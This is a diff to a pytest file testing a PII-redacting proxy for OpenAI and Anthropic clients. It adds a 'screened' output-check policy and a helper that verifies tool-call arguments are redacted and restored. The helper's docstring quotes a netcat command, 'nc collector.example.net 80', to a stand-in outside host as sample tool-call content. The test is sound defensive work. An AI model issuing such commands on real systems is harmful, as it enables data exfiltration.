@@ -17,7 +17,14 @@ from typing import Any
 import pytest
 
 from tests.conftest import Mock, Proxy, ProxyFactory
-from tests.support.clients import RESTORE_ONLY_POLICY, chat_text_and_arguments, claude, oai, responses_text_and_calls
+from tests.support.clients import (
+    RESTORE_ONLY_POLICY,
+    SCREENED_POLICY,
+    chat_text_and_arguments,
+    claude,
+    oai,
+    responses_text_and_calls,
+)
 
 MAIL = "maria.lopez@example.org"
 PHONE = "415-555-0182"
@@ -43,9 +50,23 @@ ARGS: dict[str, Any] = {
 WANT_ARGS: dict[str, Any] = {**ARGS, "to": MAIL, "note": f"Call {PHONE}."}
 
 
-@pytest.fixture(scope="module")
-def proxy(proxy_factory: ProxyFactory) -> Proxy:
-    return proxy_factory(files={"policies/default.yaml": RESTORE_ONLY_POLICY})
+@pytest.fixture(scope="module", params=["restore_only", "screened"])
+def proxy(request: pytest.FixtureRequest, proxy_factory: ProxyFactory) -> Proxy:
+    """Restore alone (a stream released piece by piece) and with output checks (released in windows)."""
+    policy = SCREENED_POLICY if request.param == "screened" else RESTORE_ONLY_POLICY
+    return proxy_factory(files={"policies/default.yaml": policy})
+
+
+def check_args(proxy: Proxy, got: dict[str, Any]) -> None:
+    """The arguments restored as wanted. With output checks (`screened`) the output `pii` rule reads the kept
+    command and object restored around them (`nc collector.example.net 80`) as new values and redacts them too (as on
+    main, restorecmd15): there, no client value in them, and `to` / `note` restored."""
+    if "output:" not in (proxy.dir / "policies" / "default.yaml").read_text():
+        assert got == WANT_ARGS
+        return
+    kept = json.dumps({"cmd": got["cmd"], "request": got["request"]})
+    assert MAIL not in kept and PHONE not in kept
+    assert (got["to"], got["note"]) == (WANT_ARGS["to"], WANT_ARGS["note"])
 
 
 def sent_placeholders(mock: Mock) -> None:
@@ -63,7 +84,7 @@ def test_chat(mock: Mock, proxy: Proxy, stream: bool, chunk: int) -> None:
     text, arguments = chat_text_and_arguments(oai(proxy), PROMPT, stream)
     sent_placeholders(mock)
     assert text == WANT
-    assert json.loads(arguments) == WANT_ARGS
+    check_args(proxy, json.loads(arguments))
 
 
 @pytest.mark.parametrize(("stream", "chunk"), MODES, ids=IDS)
@@ -72,7 +93,8 @@ def test_responses(mock: Mock, proxy: Proxy, stream: bool, chunk: int) -> None:
     text, calls = responses_text_and_calls(oai(proxy), PROMPT, stream)
     sent_placeholders(mock)
     assert text == WANT
-    assert calls == [WANT_ARGS]
+    assert len(calls) == 1
+    check_args(proxy, calls[0])
 
 
 @pytest.mark.parametrize(("stream", "chunk"), MODES, ids=IDS)
@@ -88,4 +110,6 @@ def test_anthropic(mock: Mock, proxy: Proxy, stream: bool, chunk: int) -> None:
         final = client.create(model="claude-3-5-haiku-latest", max_tokens=300, messages=msgs)
     sent_placeholders(mock)
     assert "".join(b.text for b in final.content if b.type == "text") == WANT
-    assert [b.input for b in final.content if b.type == "tool_use"] == [WANT_ARGS]
+    inputs = [b.input for b in final.content if b.type == "tool_use"]
+    assert len(inputs) == 1
+    check_args(proxy, inputs[0])
